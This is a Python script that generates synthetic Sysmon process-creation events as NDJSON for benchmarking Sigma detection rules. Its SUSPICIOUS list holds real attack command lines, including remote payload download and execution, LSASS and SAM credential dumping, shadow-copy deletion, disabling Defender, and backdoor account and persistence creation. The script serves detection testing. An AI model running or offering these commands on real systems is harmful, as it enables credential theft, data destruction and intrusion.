#!/usr/bin/env python3
"""Sysmon-style Windows process creation events (Sysmon Event ID 1) as NDJSON, for the Sigma
benchmark (tools/sigma-compare.sh).

Each line is one event with the fields Sysmon's EventData holds for Event ID 1, named and
formatted as Sysmon writes them (RuleName, UtcTime "YYYY-MM-DD hh:mm:ss.mmm", ProcessGuid in
braces, ProcessId, Image, FileVersion, Description, Product, Company, OriginalFileName,
CommandLine, CurrentDirectory, User, LogonGuid, LogonId "0x…", TerminalSessionId,
IntegrityLevel, Hashes "SHA1=…,MD5=…,SHA256=…,IMPHASH=…", ParentProcessGuid,
ParentProcessId, ParentImage, ParentCommandLine, ParentUser), beside the event's EventID,
Channel, Computer and Provider_Name, flat as Sigma's Windows rules name them.

The mix: most events are everyday process starts of a Windows fleet (services, browsers,
Office, developer tools, updaters, shells doing routine work); a small share (--suspicious,
default 2%) are the command lines of common attack techniques and living-off-the-land
binaries, so that a realistic number of SigmaHQ rules fire. Deterministic for a given --seed.

Usage: tools/sysmon-events.py --events N [--seed S] [--suspicious FRACTION] > events.ndjson
"""

import argparse
import hashlib
import json
import random
import sys

SYS32 = "C:\\Windows\\System32\\"
SYSWOW = "C:\\Windows\\SysWOW64\\"
PF = "C:\\Program Files\\"
PF86 = "C:\\Program Files (x86)\\"

# (image, original file name, description, product, company, file version)
MS = "Microsoft Corporation"
WIN = "Microsoft® Windows® Operating System"
OSV = "10.0.19041.3636 (WinBuild.160101.0800)"
IMAGES = {
    "svchost": (SYS32 + "svchost.exe", "svchost.exe", "Host Process for Windows Services", WIN, MS, OSV),
    "services": (SYS32 + "services.exe", "services.exe", "Services and Controller app", WIN, MS, OSV),
    "explorer": ("C:\\Windows\\explorer.exe", "EXPLORER.EXE", "Windows Explorer", WIN, MS, OSV),
    "cmd": (SYS32 + "cmd.exe", "Cmd.Exe", "Windows Command Processor", WIN, MS, OSV),
    "powershell": (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell", WIN, MS, "10.0.19041.546 (WinBuild.160101.0800)"),
    "conhost": (SYS32 + "conhost.exe", "CONHOST.EXE", "Console Window Host", WIN, MS, OSV),
    "taskhostw": (SYS32 + "taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks", WIN, MS, OSV),
    "rundll32": (SYS32 + "rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)", WIN, MS, OSV),
    "wmiprvse": (SYS32 + "wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host", WIN, MS, OSV),
    "searchprotocolhost": (SYS32 + "SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", WIN, MS, OSV),
    "backgroundtaskhost": (SYS32 + "backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host", WIN, MS, OSV),
    "dllhost": (SYS32 + "dllhost.exe", "dllhost.exe", "COM Surrogate", WIN, MS, OSV),
    "msiexec": (SYS32 + "msiexec.exe", "msiexec.exe", "Windows® installer", WIN, MS, "5.0.19041.3570 (WinBuild.160101.0800)"),
    "sc": (SYS32 + "sc.exe", "sc.exe", "Service Control Manager Configuration Tool", WIN, MS, OSV),
    "schtasks": (SYS32 + "schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", WIN, MS, OSV),
    "reg": (SYS32 + "reg.exe", "reg.exe", "Registry Console Tool", WIN, MS, OSV),
    "net": (SYS32 + "net.exe", "net.exe", "Net Command", WIN, MS, OSV),
    "net1": (SYS32 + "net1.exe", "net1.exe", "Net Command", WIN, MS, OSV),
    "whoami": (SYS32 + "whoami.exe", "whoami.exe", "whoami - displays logged on user information", WIN, MS, OSV),
    "certutil": (SYS32 + "certutil.exe", "CertUtil.exe", "CertUtil.exe", WIN, MS, OSV),
    "bitsadmin": (SYS32 + "bitsadmin.exe", "bitsadmin.exe", "BITS administration utility", WIN, MS, OSV),
    "mshta": (SYS32 + "mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host", "Internet Explorer", MS, "11.00.19041.1 (WinBuild.160101.0800)"),
    "regsvr32": (SYS32 + "regsvr32.exe", "REGSVR32.EXE", "Microsoft(C) Register Server", WIN, MS, OSV),
    "wmic": (SYS32 + "wbem\\WMIC.exe", "wmic.exe", "WMI Commandline Utility", WIN, MS, OSV),
    "vssadmin": (SYS32 + "vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Microsoft® Volume Shadow Copy Service ", WIN, MS, OSV),
    "cscript": (SYS32 + "cscript.exe", "cscript.exe", "Microsoft ® Console Based Script Host", "Microsoft ® Windows Script Host", MS, "5.812.10240.16384"),
    "wscript": (SYS32 + "wscript.exe", "wscript.exe", "Microsoft ® Windows Based Script Host", "Microsoft ® Windows Script Host", MS, "5.812.10240.16384"),
    "tasklist": (SYS32 + "tasklist.exe", "tasklist.exe", "Lists the current running tasks", WIN, MS, OSV),
    "ipconfig": (SYS32 + "ipconfig.exe", "ipconfig.exe", "IP Configuration Utility", WIN, MS, OSV),
    "nltest": (SYS32 + "nltest.exe", "nltestrk.exe", "Microsoft® Logon Server Test Utility", WIN, MS, OSV),
    "wevtutil": (SYS32 + "wevtutil.exe", "wevtutil.exe", "Eventing Command Line Utility", WIN, MS, OSV),
    "bcdedit": (SYS32 + "bcdedit.exe", "bcdedit.exe", "Boot Configuration Data Editor", WIN, MS, OSV),
    "msbuild": ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", "MSBuild.exe", "MSBuild.exe", "Microsoft® .NET Framework", MS, "4.8.9037.0 built by: NET481REL1"),
    "installutil": ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe", "InstallUtil.exe", "InstallUtil.exe", "Microsoft® .NET Framework", MS, "4.8.9037.0 built by: NET481REL1"),
    "chrome": (PF + "Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome", "Google Chrome", "Google LLC", "120.0.6099.130"),
    "msedge": (PF86 + "Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", "Microsoft Edge", "Microsoft Edge", MS, "120.0.2210.91"),
    "firefox": (PF + "Mozilla Firefox\\firefox.exe", "firefox.exe", "Firefox", "Firefox", "Mozilla Corporation", "121.0"),
    "winword": (PF + "Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", "Microsoft Word", "Microsoft Office", MS, "16.0.17126.20132"),
    "excel": (PF + "Microsoft Office\\root\\Office16\\EXCEL.EXE", "Excel.exe", "Microsoft Excel", "Microsoft Office", MS, "16.0.17126.20132"),
    "outlook": (PF + "Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook", "Microsoft Office", MS, "16.0.17126.20132"),
    "teams": ("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "Teams.exe", "Microsoft Teams", "Microsoft Teams", MS, "1.6.0.35756"),
    "onedrive": ("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive", "Microsoft OneDrive", MS, "23.246.1127.0002"),
    "code": ("C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "electron.exe", "Visual Studio Code", "Visual Studio Code", MS, "1.85.1"),
    "git": (PF + "Git\\cmd\\git.exe", "git.exe", "Git for Windows", "Git", "The Git Development Community", "2.43.0.windows.1"),
    "python": ("C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe", "python.exe", "Python", "Python", "Python Software Foundation", "3.11.7"),
    "node": (PF + "nodejs\\node.exe", "node.exe", "Node.js JavaScript Runtime", "Node.js", "Node.js", "20.10.0"),
    "msmpeng": ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe", "MsMpEng.exe", "Antimalware Service Executable", WIN, MS, "4.18.23110.3 (WinBuild.160101.0800)"),
    "mpcmdrun": ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe", "MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility", WIN, MS, "4.18.23110.3 (WinBuild.160101.0800)"),
    "googleupdate": (PF86 + "Google\\Update\\GoogleUpdate.exe", "GoogleUpdate.exe", "Google Installer", "Google Update", "Google LLC", "1.3.36.352"),
    "wuauclt": (SYS32 + "wuauclt.exe", "wuauclt.exe", "Windows Update", WIN, MS, OSV),
    "gpupdate": (SYS32 + "gpupdate.exe", "GPUpdate.exe", "Microsoft® Windows Group Policy Update Utility", WIN, MS, OSV),
    "notepad": (SYS32 + "notepad.exe", "NOTEPAD.EXE", "Notepad", WIN, MS, OSV),
    "ping": (SYS32 + "PING.EXE", "ping.exe", "TCP/IP Ping Command", WIN, MS, OSV),
    "robocopy": (SYS32 + "Robocopy.exe", "robocopy.exe", "Microsoft Robocopy", WIN, MS, OSV),
    "procdump": ("C:\\Users\\{user}\\Downloads\\procdump64.exe", "procdump", "Sysinternals process dump utility", "ProcDump", "Sysinternals - www.sysinternals.com", "11.0"),
    "psexec": ("C:\\Windows\\PSEXESVC.exe", "psexesvc.exe", "PsExec Service", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "2.43"),
    "curl": (SYS32 + "curl.exe", "curl.exe", "The curl executable", "The curl executable", "curl, https://curl.se/", "8.4.0"),
    "7z": (PF + "7-Zip\\7z.exe", "7z.exe", "7-Zip Console", "7-Zip", "Igor Pavlov", "23.01"),
    "unknown": ("C:\\Users\\{user}\\AppData\\Local\\Temp\\{rand}.exe", "-", "-", "-", "-", "-"),
}

# Everyday starts: (weight, image, parent, command line template, current directory, integrity)
# {user} {host} {rand} {n} {guid} {pid} are filled per event.
BENIGN = [
    (30, "svchost", "services", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {svc}", SYS32, "System"),
    (10, "svchost", "services", "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p", SYS32, "System"),
    (12, "conhost", "cmd", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", SYS32, "Medium"),
    (10, "chrome", "explorer", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle={n},i,{rand} --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={pid} --mojo-platform-channel-handle={n} /prefetch:1", PF + "Google\\Chrome\\Application\\", "Low"),
    (6, "chrome", "explorer", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", "C:\\Users\\{user}\\", "Medium"),
    (6, "msedge", "explorer", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:3", PF86 + "Microsoft\\Edge\\Application\\", "Medium"),
    (3, "firefox", "explorer", "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" -contentproc --channel=\"{pid}.{n}.{rand}\" -childID {n} -isForBrowser -prefsHandle {n} 21 tab", PF + "Mozilla Firefox\\", "Low"),
    (5, "taskhostw", "svchost", "taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}", SYS32, "Medium"),
    (5, "backgroundtaskhost", "svchost", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca", SYS32, "Low"),
    (5, "searchprotocolhost", "svchost", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" ", SYS32, "System"),
    (4, "dllhost", "svchost", "C:\\Windows\\system32\\DllHost.exe /Processid:{{3EB3C877-1F16-487C-9050-104DBCD66683}}", SYS32, "Medium"),
    (4, "wmiprvse", "svchost", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", SYS32, "System"),
    (4, "winword", "explorer", "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Documents\\Quarterly report {n}.docx\" /o \"\"", "C:\\Users\\{user}\\Documents\\", "Medium"),
    (3, "excel", "explorer", "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"C:\\Users\\{user}\\OneDrive - Contoso\\Budget {n}.xlsx\"", "C:\\Users\\{user}\\", "Medium"),
    (3, "outlook", "explorer", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ", "C:\\Users\\{user}\\", "Medium"),
    (3, "teams", "explorer", "\"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=renderer --autoplay-policy=no-user-gesture-required --disable-background-timer-throttling --lang=en-US /prefetch:1", "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\", "Medium"),
    (2, "onedrive", "explorer", "\"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", "C:\\Users\\{user}\\", "Medium"),
    (4, "code", "explorer", "\"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:8", "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\", "Medium"),
    (4, "git", "code", "\"C:\\Program Files\\Git\\cmd\\git.exe\" -c core.quotepath=false -c color.ui=false status -z -uall", "C:\\Users\\{user}\\src\\{repo}\\", "Medium"),
    (2, "git", "cmd", "git fetch origin --prune", "C:\\Users\\{user}\\src\\{repo}\\", "Medium"),
    (2, "python", "cmd", "python -m pytest tests -q", "C:\\Users\\{user}\\src\\{repo}\\", "Medium"),
    (2, "node", "cmd", "\"C:\\Program Files\\nodejs\\node.exe\" \"C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js\" run build", "C:\\Users\\{user}\\src\\{repo}\\", "Medium"),
    (3, "cmd", "explorer", "\"C:\\Windows\\system32\\cmd.exe\" ", "C:\\Users\\{user}\\", "Medium"),
    (2, "cmd", "code", "C:\\Windows\\System32\\cmd.exe /d /s /c \"git config --get remote.origin.url\"", "C:\\Users\\{user}\\src\\{repo}\\", "Medium"),
    (2, "powershell", "explorer", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", "C:\\Users\\{user}\\", "Medium"),
    (2, "powershell", "svchost", "powershell.exe -NoProfile -Command \"Get-Service | Where-Object {{$_.Status -eq 'Running'}} | Measure-Object\"", SYS32, "System"),
    (3, "msmpeng", "services", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe\"", SYS32, "System"),
    (2, "mpcmdrun", "msmpeng", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe\" -wdenable", SYS32, "System"),
    (2, "googleupdate", "svchost", "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource scheduler", SYS32, "System"),
    (2, "wuauclt", "svchost", "\"C:\\Windows\\system32\\wuauclt.exe\" /RunHandlerComServer", SYS32, "System"),
    (1, "gpupdate", "svchost", "gpupdate.exe /target:computer", SYS32, "System"),
    (2, "msiexec", "services", "C:\\Windows\\system32\\msiexec.exe /V", SYS32, "System"),
    (2, "rundll32", "svchost", "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:{n} WinX:0 WinY:0 IEFrame:0000000000000000", SYS32, "Medium"),
    (1, "notepad", "explorer", "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\{user}\\Desktop\\notes.txt", "C:\\Users\\{user}\\Desktop\\", "Medium"),
    (1, "ping", "cmd", "ping -n 4 fileserver{n}.corp.contoso.com", "C:\\Users\\{user}\\", "Medium"),
    (1, "robocopy", "cmd", "robocopy \\\\fileserver01\\share\\builds C:\\builds /MIR /R:2 /W:5", "C:\\builds\\", "High"),
    (1, "ipconfig", "cmd", "ipconfig /all", "C:\\Users\\{user}\\", "Medium"),
    (1, "tasklist", "cmd", "tasklist /v", "C:\\Users\\{user}\\", "Medium"),
    (1, "7z", "explorer", "\"C:\\Program Files\\7-Zip\\7z.exe\" x \"C:\\Users\\{user}\\Downloads\\release-{n}.zip\" -o\"C:\\Users\\{user}\\Downloads\\release-{n}\"", "C:\\Users\\{user}\\Downloads\\", "Medium"),
]

# Attack techniques and LOLBin abuse, as their command lines usually look.
SUSPICIOUS = [
    ("powershell", "winword", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "High"),
    ("powershell", "cmd", "powershell -ExecutionPolicy Bypass -NoProfile -Command \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.{n}/a.ps1')\"", "High"),
    ("powershell", "explorer", "powershell.exe -c \"Invoke-WebRequest -Uri http://203.0.113.{n}/payload.exe -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe\"", "Medium"),
    ("powershell", "wmiprvse", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \"Set-MpPreference -DisableRealtimeMonitoring $true\"", "High"),
    ("cmd", "winword", "cmd.exe /c certutil -urlcache -split -f http://198.51.100.{n}/update.exe %TEMP%\\update.exe && %TEMP%\\update.exe", "Medium"),
    ("certutil", "cmd", "certutil.exe -urlcache -split -f http://198.51.100.{n}/beacon.dll C:\\Users\\Public\\beacon.dll", "Medium"),
    ("certutil", "cmd", "certutil -decode C:\\Users\\Public\\enc.txt C:\\Users\\Public\\run.exe", "Medium"),
    ("bitsadmin", "cmd", "bitsadmin /transfer myjob /download /priority high http://203.0.113.{n}/s.exe C:\\Users\\Public\\s.exe", "Medium"),
    ("rundll32", "cmd", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full", "High"),
    ("procdump", "cmd", "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\out.dmp", "High"),
    ("vssadmin", "cmd", "vssadmin.exe delete shadows /all /quiet", "High"),
    ("wmic", "cmd", "wmic shadowcopy delete /nointeractive", "High"),
    ("wmic", "cmd", "wmic /node:10.0.{n}.5 process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\"", "High"),
    ("bcdedit", "cmd", "bcdedit /set {{default}} recoveryenabled No", "High"),
    ("wevtutil", "cmd", "wevtutil cl Security", "High"),
    ("reg", "cmd", "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save", "High"),
    ("reg", "cmd", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d \"C:\\Users\\Public\\u.exe\" /f", "Medium"),
    ("reg", "powershell", "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f", "High"),
    ("schtasks", "cmd", "schtasks /create /sc minute /mo 15 /tn \"WindowsUpdateCheck\" /tr \"C:\\Users\\Public\\u.exe\" /ru SYSTEM /f", "High"),
    ("sc", "cmd", "sc create UpdaterSvc binPath= \"C:\\Users\\Public\\svc.exe\" start= auto", "High"),
    ("net", "cmd", "net user backdoor P@ssw0rd{n} /add", "High"),
    ("net", "cmd", "net localgroup administrators backdoor /add", "High"),
    ("net", "cmd", "net group \"Domain Admins\" /domain", "Medium"),
    ("net1", "net", "C:\\Windows\\system32\\net1 user backdoor P@ssw0rd{n} /add", "High"),
    ("whoami", "cmd", "whoami /all", "Medium"),
    ("whoami", "powershell", "whoami /priv", "High"),
    ("nltest", "cmd", "nltest /domain_trusts /all_trusts", "Medium"),
    ("mshta", "explorer", "mshta.exe http://198.51.100.{n}/update.hta", "Medium"),
    ("mshta", "cmd", "mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -nop\"\", 0:close\")", "Medium"),
    ("regsvr32", "cmd", "regsvr32 /s /n /u /i:http://203.0.113.{n}/file.sct scrobj.dll", "Medium"),
    ("rundll32", "explorer", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://198.51.100.{n}/x\")", "Medium"),
    ("wscript", "outlook", "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\ABCD1234\\invoice_{n}.js\"", "Medium"),
    ("cscript", "cmd", "cscript //nologo C:\\Users\\Public\\run.vbs", "Medium"),
    ("msbuild", "cmd", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\build.xml", "Medium"),
    ("installutil", "cmd", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\a.dll", "Medium"),
    ("psexec", "services", "C:\\Windows\\PSEXESVC.exe", "System"),
    ("cmd", "psexec", "cmd.exe /c \"ipconfig /all & net view & tasklist /v\"", "System"),
    ("curl", "cmd", "curl -k -o C:\\Users\\Public\\a.exe https://203.0.113.{n}/a.exe", "Medium"),
    ("7z", "cmd", "7z.exe a -p{rand} C:\\Users\\Public\\out.7z C:\\Users\\{user}\\Documents\\*", "Medium"),
    ("unknown", "excel", "\"C:\\Users\\{user}\\AppData\\Local\\Temp\\{rand}.exe\"", "Medium"),
    ("cmd", "excel", "cmd.exe /c echo Set o=CreateObject(\"WScript.Shell\") > %TEMP%\\a.vbs & cscript %TEMP%\\a.vbs", "Medium"),
    ("powershell", "cmd", "powershell -c \"Get-WmiObject -Class Win32_Shadowcopy | ForEach-Object {{$_.Delete();}}\"", "High"),
    ("cmd", "cmd", "cmd /c ping 127.0.0.1 -n 6 > nul & del /q /f C:\\Users\\Public\\u.exe", "Medium"),
    ("rundll32", "cmd", "rundll32.exe C:\\Users\\Public\\beacon.dll,StartW", "Medium"),
    ("schtasks", "cmd", "schtasks /query /fo LIST /v", "Medium"),
    ("powershell", "cmd", "powershell.exe -ep bypass -c \"Add-MpPreference -ExclusionPath C:\\Users\\Public\"", "High"),
]

SERVICES = ["Schedule", "BITS", "wuauserv", "gpsvc", "ProfSvc", "Winmgmt", "iphlpsvc", "LanmanServer", "Themes", "SENS"]
USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "svc_build"]
REPOS = ["billing-api", "web-frontend", "infra", "ml-pipeline", "docs"]


def guid(rng):
    h = "%032x" % rng.getrandbits(128)
    return "{%s-%s-%s-%s-%s}" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def hashes(image):
    d = image.encode()
    return "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % (
        hashlib.sha1(d).hexdigest().upper(),
        hashlib.md5(d).hexdigest().upper(),
        hashlib.sha256(d).hexdigest().upper(),
        hashlib.md5(d[::-1]).hexdigest().upper(),
    )


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--events", type=int, required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--suspicious", type=float, default=0.02)
    args = ap.parse_args()
    rng = random.Random(args.seed)
    weights = [b[0] for b in BENIGN]
    hosts = ["WS-%04d" % i for i in range(1, 201)] + ["SRV-DC01", "SRV-FILE01", "SRV-BUILD02"]
    hash_of = {}
    out = sys.stdout
    write = out.write
    t0 = 1_765_000_000_000  # ms, 2025-12-06
    for i in range(args.events):
        user = rng.choice(USERS)
        host = rng.choice(hosts)
        fill = {
            "user": user,
            "host": host,
            "rand": "%08x" % rng.getrandbits(32),
            "n": rng.randint(1, 254),
            "pid": rng.randint(100, 65000),
            "svc": rng.choice(SERVICES),
            "repo": rng.choice(REPOS),
        }
        if rng.random() < args.suspicious:
            name, parent, cmd, integrity = rng.choice(SUSPICIOUS)
            cwd = "C:\\Users\\%s\\" % user if integrity != "System" else SYS32
        else:
            _, name, parent, cmd, cwd, integrity = rng.choices(BENIGN, weights)[0]
        image, original, description, product, company, version = IMAGES[name]
        pimage = IMAGES[parent][0]
        image = image.format(**fill)
        pimage = pimage.format(**fill)
        system = integrity == "System"
        account = "NT AUTHORITY\\SYSTEM" if system else "CONTOSO\\%s" % user
        if image not in hash_of:
            hash_of[image] = hashes(image)
        ms = t0 + i * 37 + rng.randint(0, 36)
        secs, milli = divmod(ms, 1000)
        utc = "%s.%03d" % (_utc(secs), milli)
        if parent == "explorer":
            pcmd = "C:\\Windows\\Explorer.EXE"
        elif parent == "services":
            pcmd = "C:\\Windows\\system32\\services.exe"
        elif parent == "svchost":
            pcmd = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"
        elif parent == "cmd":
            pcmd = "\"C:\\Windows\\system32\\cmd.exe\" "
        else:
            pcmd = "\"%s\" " % pimage
        event = {
            "EventID": 1,
            "Provider_Name": "Microsoft-Windows-Sysmon",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "%s.corp.contoso.com" % host,
            "RuleName": "-",
            "UtcTime": utc,
            "ProcessGuid": guid(rng),
            "ProcessId": fill["pid"],
            "Image": image,
            "FileVersion": version,
            "Description": description,
            "Product": product,
            "Company": company,
            "OriginalFileName": original,
            "CommandLine": cmd.format(**fill),
            "CurrentDirectory": cwd.format(**fill),
            "User": account,
            "LogonGuid": guid(rng),
            "LogonId": "0x3e7" if system else "0x%x" % rng.randint(0x10000, 0xfffffff),
            "TerminalSessionId": 0 if system else 1,
            "IntegrityLevel": integrity,
            "Hashes": hash_of[image],
            "ParentProcessGuid": guid(rng),
            "ParentProcessId": rng.randint(100, 65000),
            "ParentImage": pimage,
            "ParentCommandLine": pcmd,
            "ParentUser": "NT AUTHORITY\\SYSTEM" if parent in ("services", "svchost") else account,
        }
        write(json.dumps(event, ensure_ascii=False, separators=(",", ":")))
        write("\n")


_CACHE = {}


def _utc(secs):
    day, rest = divmod(secs, 86400)
    if day not in _CACHE:
        import datetime

        _CACHE[day] = datetime.datetime.fromtimestamp(day * 86400, datetime.timezone.utc).strftime("%Y-%m-%d")
    h, rest = divmod(rest, 3600)
    m, s = divmod(rest, 60)
    return "%s %02d:%02d:%02d" % (_CACHE[day], h, m, s)


if __name__ == "__main__":
    main()
